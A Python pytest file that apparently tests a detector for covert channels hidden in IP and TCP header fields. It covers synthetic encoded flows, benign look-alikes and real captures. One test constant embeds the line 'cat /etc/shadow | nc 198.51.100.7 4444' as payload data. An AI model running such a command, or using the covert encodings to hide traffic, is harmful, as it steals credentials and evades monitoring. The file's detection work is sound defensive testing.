from __future__ import annotations

from itertools import pairwise
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from homecall.detectors import header_anomaly
from homecall.detectors.header_anomaly import HeaderAnomalyConfig, technique_strengths
from homecall.findings import Finding
from homecall.pipeline import import_paths
from homecall.store import Store
from homecall.store.tables import Tables
from tests.detectors.packet_flows import Flow, marked, sending, store_of
from tests.detectors.zeek_logs import assert_contract, assert_spark_agrees, open_store

CFG = HeaderAnomalyConfig()
N = 60  # data packets per hand-built flow (each answered by an ACK)
SECRET = b"user=admin pass=hunter2; cat /etc/shadow | nc 198.51.100.7 4444"
SYN, ACK, PSH_ACK, URG_ACK, RST = 2, 16, 24, 48, 4
CWR, ECE = 128, 64


def _run(tables: Tables, cfg: HeaderAnomalyConfig = CFG) -> list[Finding]:
    return list(header_anomaly.DETECTOR.run(tables, cfg))


def _flow(host: int, port: int = 443, *, n: int = N, **fields: Any) -> Flow:
    """A flow from 10.0.0.<host> to 203.0.113.<host>:port, one data packet every 200 ms."""
    flow = sending(Flow(f"10.0.0.{host}", f"203.0.113.{host}", port), np.full(n, 0.2))
    return marked(flow, **fields) if fields else flow


def _bits(n: int, seed: int) -> list[int]:
    return [int(b) for b in np.random.default_rng(seed).integers(0, 2, n + 1)]


def _by_src(found: list[Finding]) -> dict[str, Finding]:
    assert len({f.src for f in found}) == len(found)
    return {f.src: f for f in found}


# ---------------------------------------------------------------------------- the score


def _counts(**values: int) -> dict[str, np.ndarray]:
    names = [
        *("tcp_reserved", "tcp_ns", "urgent_pointer", "ip_evil_bit", "tcp_options"),
        *("ttl_changes", "ttl_rises", "ttl_falls", "dscp_changes", "ids", "ids_nonzero"),
        *("id_steps", "id_counter_steps", "id_ascii", "df_clear", "all_ids", "all_df_clear"),
        *("id_distinct", "id_min", "id_max"),
    ]
    base = dict.fromkeys(names, 0)
    base |= {"packets": 100, **values}
    arrays: dict[str, np.ndarray] = {k: np.array([v]) for k, v in base.items()}
    arrays["sender"] = np.array(["10.0.0.5"], dtype=object)
    arrays["src"] = np.array(["10.0.0.5"], dtype=object)
    return arrays


@pytest.mark.parametrize(
    ("values", "expected"),
    [
        ({"tcp_reserved": 2}, 0.0),  # under min_packets: noise
        ({"tcp_reserved": 3}, 0.6 * 0.5),  # the minimum carries activity_floor of the weight
        ({"tcp_reserved": 50}, 0.6),  # packets_full: the whole weight, "medium" at most
        ({"tcp_reserved": 500}, 0.6),
        ({"tcp_reserved": 50, "ip_evil_bit": 50}, 1 - 0.4 * 0.4),  # two: "high"
        ({"tcp_ns": 50}, 0.3),
        ({"ttl_changes": 50, "ttl_rises": 25, "ttl_falls": 25}, 0.45),
        ({"ttl_changes": 50, "ttl_rises": 50}, 0.0),  # only rising: a traceroute
    ],
)
def test_technique_strengths_by_hand(values: dict[str, int], expected: float) -> None:
    assert technique_strengths(_counts(**values), CFG).score[0] == pytest.approx(expected)


def test_remote_senders_ttl_counts_half() -> None:
    counts = _counts(ttl_changes=50, ttl_rises=25, ttl_falls=25)
    counts["sender"] = np.array(["203.0.113.5"], dtype=object)
    assert technique_strengths(counts, CFG).score[0] == pytest.approx(0.45 * 0.5)


# ---------------------------------------------------------------------------- synthetic channels


def test_each_storage_channel_is_found_with_its_packets(tmp_path: Path) -> None:
    bits = _bits(N, 1)
    rng = np.random.default_rng(2)
    flows = [
        # Rowland's covert_tcp: one character per IP ID, in the high byte (DF clear)
        _flow(1, 80, ip_id=[c * 256 for c in SECRET], ip_flags=0),
        _flow(
            2,
            ip_id=[a * 256 + b for a, b in zip(SECRET[::2], SECRET[1::2], strict=False)],
            ip_flags=0,
        ),
        _flow(3, tcp_reserved=[int(x) for x in rng.integers(1, 8, N + 1)]),
        _flow(4, urgent_ptr=[int(x) for x in rng.integers(1, 65536, N + 1)]),
        _flow(5, ip_flags=[2 + 4 * b for b in bits]),  # the evil bit carrying bits
        _flow(6, ttl=[64 - b for b in bits]),  # TTL modulation by the internal sender
        _flow(7, tos=[40 * b for b in bits]),  # DSCP 0 / AF11
        _flow(8, tcp_options="1,1,8,200"),  # an unassigned option kind on every segment
        _flow(9, tcp_options="2,1,1,8"),  # MSS outside the SYN (RFC 9293 3.7.1)
        _flow(10, ip_id=4242, ip_flags=0),  # one non-zero ID on every packet, DF clear
        _flow(11, ip_id=[int(x) for x in rng.integers(1, 12, N + 1)], ip_flags=0),
    ]
    found = _by_src(_run(open_store(store_of(tmp_path, flows))))
    expected = {
        "10.0.0.1": "ip-id",
        "10.0.0.2": "ip-id",
        "10.0.0.3": "tcp-reserved",
        "10.0.0.4": "urgent-pointer",
        "10.0.0.5": "ip-evil-bit",
        "10.0.0.6": "ttl",
        "10.0.0.7": "dscp",
        "10.0.0.8": "tcp-options",
        "10.0.0.9": "tcp-options",
        "10.0.0.10": "ip-id",
        "10.0.0.11": "ip-id",
    }
    assert {src: f.evidence["techniques"] for src, f in found.items()} == {
        src: [t] for src, t in expected.items()
    }
    for f in found.values():
        assert 0.25 <= f.score <= 0.6  # one technique: "medium" at most
        assert f.evidence["sender"] == f.src
        assert f.evidence["packets"] == N + 1
    text = found["10.0.0.1"].evidence["ip_id_text"]
    assert SECRET.decode().startswith(text)  # the IDs decoded (copies of a doubled letter skipped)
    assert found["10.0.0.1"].evidence["ip_id_pattern"] == "ascii"
    assert SECRET.decode()[:20] in found["10.0.0.2"].evidence["ip_id_text"]
    assert found["10.0.0.10"].evidence["ip_id_pattern"] == "constant"
    assert found["10.0.0.11"].evidence["ip_id_pattern"] == "repeats"
    assert found["10.0.0.3"].evidence["tcp_reserved_packets"] == N + 1
    assert found["10.0.0.5"].evidence["ip_evil_bit_packets"] == sum(bits)
    assert found["10.0.0.6"].evidence["ttl_changes"] == sum(a != b for a, b in pairwise(bits))
    assert found["10.0.0.7"].evidence["dscp_values"] == 2
    assert found["10.0.0.8"].evidence["tcp_options_example"] == "1,1,8,200"


def test_two_techniques_in_one_flow_are_high(tmp_path: Path) -> None:
    bits = _bits(N, 3)
    flow = _flow(1, tcp_reserved=[4 * b for b in bits], ip_flags=[2 + 4 * b for b in bits])
    (finding,) = _run(open_store(store_of(tmp_path, [flow])))
    assert finding.score >= 0.75
    assert finding.evidence["techniques"] == ["tcp-reserved", "ip-evil-bit"]
    assert "TCP reserved bits" in finding.summary
    assert finding.evidence["uids"] == [flow.uid]


def test_a_remote_senders_ttl_modulation_counts_half(tmp_path: Path) -> None:
    ttl = [50 - b for b in _bits(N, 4)]
    inbound = sending(Flow("203.0.113.9", "10.0.0.9", 8080), np.full(N, 0.2))
    flows = [marked(inbound, ttl=ttl), _flow(8, 8080, ttl=ttl)]
    found = _by_src(_run(open_store(store_of(tmp_path, flows)), HeaderAnomalyConfig(min_score=0)))
    remote, internal = found["10.0.0.9"], found["10.0.0.8"]
    assert (remote.evidence["sender"], internal.evidence["sender"]) == ("203.0.113.9", "10.0.0.8")
    assert remote.evidence["ttl_changes"] == internal.evidence["ttl_changes"]
    assert remote.score == pytest.approx(CFG.remote_ttl_factor * internal.score)


def _benign(rng: np.random.Generator) -> list[Flow]:
    steps = np.cumsum(rng.integers(1, 300, N + 1))
    copies = sending(Flow("10.0.0.30", "203.0.113.30", 443), np.full(N, 0.2), acks=False)
    twice = {
        "ts_us": [t + d for t in copies.ts_us for d in (0, 40)],
        "from_orig": [True] * (2 * len(copies.ts_us)),
        "payload_len": [48] * (2 * len(copies.ts_us)),
    }
    seen_twice = Flow("10.0.0.30", "203.0.113.30", 443, **twice)  # type: ignore[arg-type]
    return [
        # ECN: CWR/ECE and ECT/CE marks in the TOS byte's low bits (RFC 3168), not reserved bits
        _flow(
            20, tcp_flags=PSH_ACK | CWR | ECE, tos=[int(x) for x in rng.choice([1, 2, 3], N + 1)]
        ),
        # OpenSSH's IPQoS: DSCP 0 until the session is up, then AF21 (one change)
        _flow(21, 22, tos=[0] * 10 + [72] * (N - 9)),
        # a route change: the TTL drops by one once
        marked(
            sending(Flow("203.0.113.22", "10.0.0.22", 443), np.full(N, 0.2)),
            ttl=[52] * 30 + [51] * (N - 29),
        ),
        # a firewall injecting RSTs with its own TTL and ID into a flow
        marked(
            _flow(23),
            from_orig=False,
            ttl=[50, 50, 250] * 21,
            tcp_flags=[ACK, ACK, RST] * 21,
            ip_id=[1, 2, 9] * 21,
        ),
        # traceroute: ICMP probes with a rising TTL, three per hop
        marked(
            sending(
                Flow("10.0.0.24", "203.0.113.24", 0, proto="icmp"), np.full(29, 0.1), acks=False
            ),
            ttl=[1 + i // 3 for i in range(30)],
        ),
        # Windows: one host-wide counter, advanced by other flows between this one's packets
        _flow(25, ip_id=[int(x) % 65536 for x in 20000 + steps]),
        # macOS / OpenBSD: random IDs, DF clear
        _flow(26, ip_id=[int(x) for x in rng.integers(1, 65536, N + 1)], ip_flags=0),
        # Linux, DF set: IP ID 0; and one constant ID with DF set (RFC 6864 allows any value)
        _flow(27, ip_id=0),
        _flow(28, ip_id=4242),
        # one odd packet each: a middlebox, a bit flip
        _flow(29, tcp_reserved=[2] + [0] * N, tcp_flags=[PSH_ACK | 256] + [PSH_ACK] * N),
        # a capture seeing every packet twice, one hop apart (TTL 64 and 63, same ID)
        marked(
            seen_twice,
            ttl=[64, 63] * (N + 1),
            ip_id=[i // 2 + 500 for i in range(2 * (N + 1))],
            ip_flags=0,
        ),
        # urgent data done right: URG set (telnet's interrupt)
        _flow(31, 23, tcp_flags=URG_ACK, urgent_ptr=1),
        # the usual SYN options, then timestamps on every segment
        _flow(32, tcp_flags=[SYN] + [PSH_ACK] * N, tcp_options=["2,4,8,1,3"] + ["1,1,8"] * N),
    ]


def test_benign_look_alikes_stay_quiet(tmp_path: Path) -> None:
    flows = _benign(np.random.default_rng(5))
    assert _run(open_store(store_of(tmp_path, flows)), HeaderAnomalyConfig(min_score=0.0)) == []


def test_contract_on_a_hand_built_capture(tmp_path: Path) -> None:
    bits = _bits(N, 6)
    flows = [
        _flow(1, ip_id=[c * 256 for c in SECRET], ip_flags=0),
        _flow(2, ttl=[64 - b for b in bits]),
    ]
    assert_contract(lambda t: header_anomaly.DETECTOR.run(t, CFG), store_of(tmp_path, flows))


@pytest.mark.spark
def test_duckdb_and_spark_agree(tmp_path: Path, spark: object) -> None:
    rng = np.random.default_rng(7)
    bits = _bits(N, 7)
    flows = [
        *_benign(rng),
        _flow(1, ip_id=[c * 256 for c in SECRET], ip_flags=0),
        _flow(3, tcp_reserved=[4 * b for b in bits], ip_flags=[2 + 4 * b for b in bits]),
        _flow(8, tcp_options="1,1,8,200"),
    ]
    assert_spark_agrees(
        lambda t: header_anomaly.DETECTOR.run(t, CFG), store_of(tmp_path, flows), spark
    )


# ---------------------------------------------------------------------------- real captures


@pytest.fixture(scope="module")
def capture_stores(samples: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Store]:
    """Each capture of c2-samples/pcap imported on its own (PROVENANCE.txt)."""
    stores = {}
    for path in sorted((samples / "pcap").glob("*/*.pcap")):
        store = Store(tmp_path_factory.mktemp(path.stem) / "store")
        import_paths([path], store)
        stores[path.stem] = store
    assert stores
    return stores


def test_real_captures_give_nothing_at_medium_or_above(capture_stores: dict[str, Store]) -> None:
    # Nothing at all is reported: no capture sets a reserved or evil bit, an urgent pointer or
    # an odd option; the CALDERA lab and slips hosts count IP IDs up (Linux).
    for name, store in capture_stores.items():
        found = _run(open_store(store))
        assert all(f.score < 0.5 for f in found), (name, [f.summary for f in found])


def test_real_ssh_session_look_alikes_are_present_and_quiet(
    capture_stores: dict[str, Store],
) -> None:
    """test7's SSH client (192.168.2.1) uses random IP IDs with DF clear, and OpenSSH changes
    the DSCP once when the session starts: both look-alikes, neither reported."""
    tables = open_store(capture_stores["test7-malicious"])
    loose = HeaderAnomalyConfig(min_changes=1, counter_ratio=2.0, ascii_ratio=0.0)
    rows = tables.to_pyarrow(header_anomaly.flow_counts(tables, loose)).to_pylist()
    ssh = [r for r in rows if r["dst_port"] == 22]
    assert any(r["dscp_changes"] == 1 for r in ssh)
    client = [r for r in ssh if r["sender"] == "192.168.2.1" and r["ids_nonzero"] > 100]
    assert client
    for r in client:
        assert r["id_counter_steps"] < 0.1 * r["id_steps"]  # not a counter
        assert r["id_distinct"] == r["ids_nonzero"]  # no ID repeats: random
        assert r["id_ascii"] < 0.2 * r["ids_nonzero"]  # printable pairs at chance (14 %)
    assert not [f for f in _run(tables, HeaderAnomalyConfig(min_score=0.0)) if f.dst_port == 22]
